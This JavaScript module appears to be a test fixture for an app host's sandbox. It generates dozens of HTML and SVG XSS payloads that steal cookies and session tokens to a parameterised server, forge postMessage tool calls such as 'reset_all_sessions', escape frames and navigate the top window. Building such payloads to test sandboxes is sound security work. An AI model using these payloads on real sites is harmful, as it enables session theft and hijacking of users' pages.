/** Output with which a program tries to run a script in the page that shows it, to leave its frame, or to send data away. */

/** What the host of an app would do for the app. */
const FORGED = ['tools/call', 'ui/open-link', 'ui/message', 'ui/update-model-context', 'ui/download-file'];

/** A script that tries everything, without quotation marks, `<` and `&`, so that it fits into each payload. */
const probe = (url) => {
  const steps = [
    'globalThis.pwned=1',
    'parent.pwned=1',
    'top.document.title=`pwned`',
    `fetch(\`${url}/fetch?\`+document.cookie)`,
    `navigator.sendBeacon(\`${url}/beacon\`,parent.sessionStorage.token)`,
    `new WebSocket(\`${url.replace('http', 'ws')}/socket\`)`,
    `new EventSource(\`${url}/events\`)`,
    `new Image().src=\`${url}/image?\`+localStorage.length`,
    `new RTCPeerConnection({iceServers:[{urls:\`stun:${new URL(url).host}\`}]}).createDataChannel(\`x\`)`,
    `open(\`${url}/window\`)`,
    `navigator.serviceWorker.register(\`${url}/worker.js\`)`,
    'indexedDB.open(`pwned`)',
    'document.cookie=`pwned=1`',
    'localStorage.pwned=1',
    'alert(1)',
    ...FORGED.map((method) => {
      const params = `{name:\`reset_all_sessions\`,arguments:{},url:\`${url}\`}`;
      return `[parent,top,opener].map((w)=>w.postMessage({jsonrpc:\`2.0\`,id:1,method:\`${method}\`,params:${params}},\`*\`))`;
    }),
    'Object.assign(document.createElement(`a`),{href:`data:text/html,x`,download:`pwned.html`}).click()',
    `top.location=\`${url}/top\``,
  ];
  return `for(const f of [${steps.map((step) => `()=>${step.includes('=>') ? step : `{${step}}`}`).join(',')}])try{f()}catch{}`;
};

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const data = (html) => `data:text/html;base64,${Buffer.from(html).toString('base64')}`;
const script = (js) => `<script>${js}</script>`;

/** HTML by name, from a script and the address of a server. */
const VEHICLES = {
  script,
  'script in parts': (js) => `<scr<script>ipt>${js}</scr</script>ipt>${script(js)}`,
  'module and data': (js) =>
    `<script type=module>${js}</script><script src="data:text/javascript;base64,${Buffer.from(js).toString('base64')}"></script>`,
  image: (js) => `<img src=x onerror="${js}"><image src=x onerror="${js}">`,
  'handlers of loading': (js) =>
    `<body onload="${js}" onpageshow="${js}"><style onload="${js}">x{}</style><link rel=stylesheet href="data:text/css," onload="${js}">`,
  'handlers of focus': (js) =>
    `<input autofocus onfocus="${js}"><details open ontoggle="${js}">x</details><div tabindex=0 autofocus onfocus="${js}">x</div>`,
  'handlers of animations': (js) =>
    `<style>@keyframes k{} p{animation:k 1s}</style><p onanimationstart="${js}">x</p><marquee onstart="${js}">x</marquee>`,
  'handlers of media': (js) =>
    `<video src=x onerror="${js}"></video><audio><source src=x onerror="${js}"></audio>`,
  'handlers of clicks': (js) =>
    `<a class=click onclick="${js}" onmousemove="${js}">x</a><summary class=click onclick="${js}">x</summary>`,
  'links with scripts': (js) =>
    `<a class=click href="javascript:${js}">x</a><a class=click href="java&#9;script:${js}" target=_top>x</a><a class=click href="&#1;JAVASCRIPT:${js}">x</a>`,
  'links to the top and to downloads': (_, url) =>
    `<a class=click target=_top href="${url}/top">x</a><a class=click target=_blank href="${url}/blank">x</a><a class=click download href="${url}/file">x</a><map name=m><area class=click href="${url}" shape=default></map>`,
  forms: (js, url) =>
    `<form action="javascript:${js}" target=_top><button class=click>x</button></form><form method=post action="${url}"><input name=a value=b><button class=click formaction="${url}/2" formtarget=_parent>x</button></form>`,
  'nested frames': (js) =>
    `<iframe src="javascript:${js}"></iframe><iframe srcdoc="${script(js)}"></iframe><iframe src="${data(script(js))}" sandbox="allow-scripts allow-top-navigation allow-popups"></iframe>`,
  'embedded documents': (js) =>
    `<object data="${data(script(js))}"></object><embed src="${data(script(js))}"><object type="image/svg+xml" data="data:image/svg+xml,${encodeURIComponent(`<svg ${SVG}>${script(js)}</svg>`)}"></object>`,
  refresh: (js, url) =>
    `<meta http-equiv=refresh content="0;url=javascript:${js}"><meta http-equiv=refresh content="0;url=${data(script(js))}"><meta http-equiv=refresh content="0;${url}">`,
  'base and targets': (js, url) =>
    `<base href="${url}/" target=_top><a class=click href="x">x</a><img src="y"><base href="javascript:/a/-${js}//">`,
  'cookies and policies of the document': (js, url) =>
    `<meta http-equiv=set-cookie content="pwned=1"><meta http-equiv=content-security-policy content="script-src * 'unsafe-inline'; report-uri ${url}">${script(js)}`,
  'svg scripts': (js) =>
    `<svg onload="${js}"><script>${js}</script><animate onbegin="${js}" attributeName=x dur=1s /><foreignObject>${script(js)}<iframe srcdoc="${script(js)}"></iframe></foreignObject></svg>`,
  'svg links': (js, url) =>
    `<svg><a class=click xlink:href="javascript:${js}"><text y=9>x</text></a><a class=click><set attributeName=href to="javascript:${js}" /><text y=9>x</text></a><use href="${url}/a.svg#b"/><image href="${url}/i"/><filter id=f><feImage href="${url}/f"/></filter><rect filter="url(${url}/g#f)" width=9 height=9 /></svg>`,
  'svg namespaces': (js) =>
    `<svg><h:script xmlns:h="http://www.w3.org/1999/xhtml">${js}</h:script><style><![CDATA[</style>${script(js)}]]></style></svg>`,
  mathml: (js) =>
    `<math href="javascript:${js}" class=click><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${js}'&gt;"></mtext><maction actiontype="statusline#x" xlink:href="javascript:${js}">x</maction></math>`,
  'shadow roots and templates': (js) =>
    `<div><template shadowrootmode=open>${script(js)}<img src=x onerror="${js}"></template></div><template>${script(js)}</template>`,
  mutations: (js) =>
    `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript><title><a title="</title>${script(js)}"></title><!--><img src=x onerror="${js}">--><xmp></xmp><textarea></textarea>${script(js)}<plaintext>`,
  'attributes that end': (js) =>
    `<p title='"><img src=x onerror="${js}">' class='"><script>' style='"><script>' id="&quot;&gt;">x</p><img alt='" onerror="${js}' src="data:image/png,x">`,
  'styles that load': (_, url) =>
    `<style>@import "${url}/a.css"; @font-face{font-family:f;src:url(${url}/f)} *{background:url(${url}/b);font-family:f;cursor:url(${url}/c),auto;list-style:url(${url}/l)} p::after{content:url(${url}/d)} [title^="a"]{border-image:url(${url}/e)}</style><p title=abc style="background:image-set('${url}/s' 1x)">x</p>`,
  'names of the page': (js) =>
    `<form id=document name=parent><input name=app id=app></form><a id=token name=sessionStorage class=click href="javascript:${js}">x</a><div id=app style="position:fixed;inset:0;z-index:9999">cover</div>`,
};

/** The payloads by name, for one server. */
export const hostileHtml = (url) =>
  Object.entries(VEHICLES).map(([name, make]) => [name, make(probe(url), url)]);

/** The same as SVG documents. */
export const hostileSvg = (url) => {
  const js = probe(url).replaceAll('>', '&gt;');
  const bodies = {
    'scripts of an image': `<script>${js}</script><g onload="${js}"/><animate onbegin="${js}" attributeName="x" dur="1s"/>`,
    'links of an image': `<a href="javascript:${js}"><rect width="9" height="9"/></a><image href="${url}/i"/><use href="${url}/u.svg#a"/>`,
    'HTML in an image': `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${js}"><iframe src="${url}/frame"/><img src="${url}/x" onerror="${js}"/><script>${js}</script></body></foreignObject>`,
    'styles of an image': `<style>@import "${url}/css"; rect{fill:url(${url}/fill#a);mask:url(${url}/mask#b)}</style><rect width="9" height="9"/>`,
  };
  const documents = Object.entries(bodies).map(([name, body]) => [
    name,
    `<svg ${SVG} width="9" height="9" onload="${js}">${body}</svg>`,
  ]);
  const entity = `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]><svg ${SVG} width="9" height="9"><text>&x;</text></svg>`;
  return [...documents, ['entities of an image', entity]];
};
